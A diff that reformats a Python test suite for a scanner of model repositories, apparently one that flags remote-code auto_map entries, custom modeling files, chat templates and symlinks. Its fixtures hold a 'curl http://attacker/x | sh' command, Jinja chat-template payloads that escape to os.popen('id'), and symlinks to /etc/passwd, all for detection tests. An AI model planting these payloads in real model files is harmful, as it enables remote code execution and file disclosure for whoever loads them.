@@ -24,8 +24,12 @@ def _snapshot(root: Path, kind: TargetKind = TargetKind.FOLDER) -> Snapshot:
             full = os.path.join(dirpath, name)
             if os.path.islink(full) and os.path.isdir(full):
                 for inner in os.listdir(full):
-                    files.append(SnapshotFile(rel=os.path.relpath(os.path.join(full, inner), root).replace(
-                        os.sep, "/"), abspath=os.path.join(full, inner)))
+                    files.append(
+                        SnapshotFile(
+                            rel=os.path.relpath(os.path.join(full, inner), root).replace(os.sep, "/"),
+                            abspath=os.path.join(full, inner),
+                        )
+                    )
                 continue
             files.append(SnapshotFile(rel=os.path.relpath(full, root).replace(os.sep, "/"), abspath=full))
     target = Target(input=str(root), kind=kind, path=str(root))
@@ -34,8 +38,15 @@ def _snapshot(root: Path, kind: TargetKind = TargetKind.FOLDER) -> Snapshot:
 
 def _check(root: Path, kind: TargetKind = TargetKind.FOLDER) -> list[Finding]:
     snap = _snapshot(root, kind)
-    records = [FileRecord(path=f.rel, size=os.stat(f.abspath).st_size if os.path.exists(f.abspath) else 0,
-                          sha256=None, format="x") for f in snap.files]
+    records = [
+        FileRecord(
+            path=f.rel,
+            size=os.stat(f.abspath).st_size if os.path.exists(f.abspath) else 0,
+            sha256=None,
+            format="x",
+        )
+        for f in snap.files
+    ]
     return check_repository(snap, records)
 
 
@@ -54,8 +65,13 @@ def _write_json(path: Path, data: Any) -> None:
 def _benign(root: Path) -> Path:
     _write_json(root / "config.json", {"architectures": ["LlamaForCausalLM"], "model_type": "llama"})
     _write_json(root / "generation_config.json", {"max_new_tokens": 20})
-    _write_json(root / "tokenizer_config.json", {
-        "bos_token": "<s>", "chat_template": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"})
+    _write_json(
+        root / "tokenizer_config.json",
+        {
+            "bos_token": "<s>",
+            "chat_template": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}",
+        },
+    )
     _write_json(root / "special_tokens_map.json", {"bos_token": "<s>"})
     (root / "tokenizer.json").write_text('{"version": "1.0", "model": {"type": "BPE"}}')
     (root / "model.safetensors").write_bytes(b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ")
@@ -81,8 +97,16 @@ def test_benign_folder_is_clean(tmp_path: Path) -> None:
 
 def test_auto_map_and_modeling_file_with_os_system(tmp_path: Path) -> None:
     _benign(tmp_path)
-    _write_json(tmp_path / "config.json", {"model_type": "evil", "auto_map": {
-        "AutoConfig": "configuration_evil.EvilConfig", "AutoModelForCausalLM": "modeling_evil.EvilModel"}})
+    _write_json(
+        tmp_path / "config.json",
+        {
+            "model_type": "evil",
+            "auto_map": {
+                "AutoConfig": "configuration_evil.EvilConfig",
+                "AutoModelForCausalLM": "modeling_evil.EvilModel",
+            },
+        },
+    )
     (tmp_path / "modeling_evil.py").write_text(MODELING)
     (tmp_path / "configuration_evil.py").write_text("class EvilConfig:\n    pass\n")
     (tmp_path / "helper.py").write_text("x = 1\n")
@@ -92,8 +116,11 @@ def test_auto_map_and_modeling_file_with_os_system(tmp_path: Path) -> None:
     assert "modeling_evil.py" in remote.detail and "configuration_evil.py" in remote.detail
     assert "AutoModelForCausalLM: modeling_evil.EvilModel" in (remote.evidence or "")
     py = {f.path: f.severity for f in found["WB-REPO-003"]}
-    assert py == {"modeling_evil.py": Severity.HIGH, "configuration_evil.py": Severity.HIGH,
-                  "helper.py": Severity.MEDIUM}
+    assert py == {
+        "modeling_evil.py": Severity.HIGH,
+        "configuration_evil.py": Severity.HIGH,
+        "helper.py": Severity.MEDIUM,
+    }
     construct = found["WB-REPO-004"][0]
     assert construct.path == "modeling_evil.py" and construct.location and construct.location.line == 9
     assert 'os.system("curl http://attacker/x | sh")' in (construct.evidence or "")
@@ -108,8 +135,10 @@ def test_relative_import_makes_sibling_referenced(tmp_path: Path) -> None:
 
 
 def test_cross_repo_auto_map_is_critical(tmp_path: Path) -> None:
-    _write_json(tmp_path / "tokenizer_config.json", {"auto_map": {
-        "AutoTokenizer": ["other-org/code--tokenization_x.XTokenizer", None]}})
+    _write_json(
+        tmp_path / "tokenizer_config.json",
+        {"auto_map": {"AutoTokenizer": ["other-org/code--tokenization_x.XTokenizer", None]}},
+    )
     found = _by_rule(_check(tmp_path))
     assert found["WB-REPO-002"][0].severity is Severity.CRITICAL
     assert "other-org/code" in found["WB-REPO-002"][0].detail
@@ -119,15 +148,24 @@ def test_cross_repo_auto_map_is_critical(tmp_path: Path) -> None:
 def test_custom_pipelines_diffusers_and_sentence_transformers(tmp_path: Path) -> None:
     _write_json(tmp_path / "config.json", {"custom_pipelines": {"my-task": {"impl": "pipe.MyPipeline"}}})
     (tmp_path / "pipe.py").write_text("class MyPipeline: pass\n")
-    _write_json(tmp_path / "sd" / "model_index.json", {"_class_name": ["pipeline_custom", "P"],
-                                                       "unet": ["my_unet", "UNet"],
-                                                       "vae": ["diffusers", "AutoencoderKL"],
-                                                       "text_encoder": ["weird_lib", "Enc"]})
+    _write_json(
+        tmp_path / "sd" / "model_index.json",
+        {
+            "_class_name": ["pipeline_custom", "P"],
+            "unet": ["my_unet", "UNet"],
+            "vae": ["diffusers", "AutoencoderKL"],
+            "text_encoder": ["weird_lib", "Enc"],
+        },
+    )
     (tmp_path / "sd" / "unet").mkdir()
     (tmp_path / "sd" / "unet" / "my_unet.py").write_text("class UNet: pass\n")
-    _write_json(tmp_path / "st" / "modules.json", [
-        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
-        {"idx": 1, "name": "1", "path": "1", "type": "custom_pool.Pooling"}])
+    _write_json(
+        tmp_path / "st" / "modules.json",
+        [
+            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
+            {"idx": 1, "name": "1", "path": "1", "type": "custom_pool.Pooling"},
+        ],
+    )
     found = _by_rule(_check(tmp_path))
     remote = {f.path: f for f in found["WB-REPO-001"]}
     assert set(remote) == {"config.json", "sd/model_index.json", "st/modules.json"}
@@ -162,7 +200,9 @@ def test_symlinks_hard_links_and_executables(tmp_path: Path) -> None:
     found = _by_rule(_check(tmp_path))
     links = {f.path: f for f in found["WB-REPO-006"]}
     assert set(links) == {"vocab.txt", "linked_dir"}
-    assert links["vocab.txt"].severity is Severity.HIGH and "/etc/passwd" in (links["vocab.txt"].evidence or "")
+    assert links["vocab.txt"].severity is Severity.HIGH and "/etc/passwd" in (
+        links["vocab.txt"].evidence or ""
+    )
     assert [f.path for f in found["WB-REPO-007"]] == ["shared.bin"]
     assert found["WB-REPO-007"][0].severity is Severity.MEDIUM
     exes = {f.path: f.detail for f in found["WB-REPO-008"]}
@@ -189,14 +229,24 @@ def test_invalid_loader_json_is_low(tmp_path: Path) -> None:
     (tmp_path / "other.json").write_text("{not json")  # not a file a loader reads: not reported here
     found = _check(tmp_path)
     assert {(f.rule, f.path, f.severity) for f in found} == {
-        ("WB-REPO-009", "config.json", Severity.LOW), ("WB-REPO-009", "generation_config.json", Severity.LOW)}
+        ("WB-REPO-009", "config.json", Severity.LOW),
+        ("WB-REPO-009", "generation_config.json", Severity.LOW),
+    }
     assert next(f for f in found if f.path == "config.json").location.line == 1  # type: ignore[union-attr]
 
 
 def test_chat_templates_are_checked(tmp_path: Path) -> None:
     evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
-    _write_json(tmp_path / "tokenizer_config.json", {"bos_token": "<s>", "chat_template": [
-        {"name": "default", "template": "{{ messages[0]['content'] }}"}, {"name": "tool_use", "template": evil}]})
+    _write_json(
+        tmp_path / "tokenizer_config.json",
+        {
+            "bos_token": "<s>",
+            "chat_template": [
+                {"name": "default", "template": "{{ messages[0]['content'] }}"},
+                {"name": "tool_use", "template": evil},
+            ],
+        },
+    )
     (tmp_path / "chat_template.jinja").write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}")
     _write_json(tmp_path / "chat_template.json", {"chat_template": evil})
     findings = [f for f in _check(tmp_path) if f.check.value == "artifact" or f.rule.startswith("WB-TPL")]
@@ -258,12 +308,18 @@ def test_arbitrary_python_text_never_escapes(source: str) -> None:
 
 
 @settings(max_examples=60, deadline=None)
-@given(st.dictionaries(st.sampled_from(["auto_map", "chat_template", "custom_pipelines", "model_type"]),
-                       st.recursive(st.none() | st.text(max_size=30) | st.integers(),
-                                    lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=8), c,
-                                                                                       max_size=3), max_leaves=8),
-                       max_size=4),
-       st.binary(max_size=64))
+@given(
+    st.dictionaries(
+        st.sampled_from(["auto_map", "chat_template", "custom_pipelines", "model_type"]),
+        st.recursive(
+            st.none() | st.text(max_size=30) | st.integers(),
+            lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=8), c, max_size=3),
+            max_leaves=8,
+        ),
+        max_size=4,
+    ),
+    st.binary(max_size=64),
+)
 def test_arbitrary_configs_never_escape(config: dict[str, Any], blob: bytes) -> None:
     with tempfile.TemporaryDirectory() as d:
         root = Path(d)
@@ -284,5 +340,9 @@ def test_through_the_engine(tmp_path: Path) -> None:
     os.symlink("/etc/passwd", tmp_path / "merges.txt")
     report = scan(str(tmp_path))
     rules = {(f.rule, f.path) for f in report.findings}
-    assert {("WB-REPO-001", "config.json"), ("WB-REPO-003", "modeling_evil.py"),
-            ("WB-REPO-004", "modeling_evil.py"), ("WB-REPO-006", "merges.txt")} <= rules
+    assert {
+        ("WB-REPO-001", "config.json"),
+        ("WB-REPO-003", "modeling_evil.py"),
+        ("WB-REPO-004", "modeling_evil.py"),
+        ("WB-REPO-006", "merges.txt"),
+    } <= rules
